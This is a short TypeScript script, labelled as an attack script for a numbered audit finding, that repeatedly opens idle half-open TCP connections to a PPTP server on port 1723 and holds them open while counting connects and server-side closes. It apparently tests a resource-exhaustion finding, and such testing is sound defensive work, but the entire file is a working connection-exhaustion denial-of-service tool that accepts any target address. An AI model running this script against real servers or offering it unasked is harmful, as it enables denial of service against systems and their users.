/**
 * Attack script (issue 12, finding 7): PPTP control connections that never
 * speak and never send FIN, even after the server's. One new connection
 * every `intervalMs` for `seconds`, all kept open until the end. Prints
 * `ATTEMPTS n CONNECTED n FIN n` (FIN: connections the server ended).
 */
import { connect, type Socket } from 'node:net';

const [server = '10.201.0.1', secondsArg = '8', intervalArg = '100'] = process.argv.slice(2);
const socks: Socket[] = [];
let connected = 0;
let fin = 0;
const end = Date.now() + Number(secondsArg) * 1000;
while (Date.now() < end) {
  const s = connect({ host: server, port: 1723, allowHalfOpen: true });
  s.on('connect', () => connected++);
  s.on('end', () => fin++);
  s.on('error', () => {});
  socks.push(s);
  await new Promise((r) => setTimeout(r, Number(intervalArg)));
}
console.log(`ATTEMPTS ${socks.length} CONNECTED ${connected} FIN ${fin}`);
for (const s of socks) s.destroy();
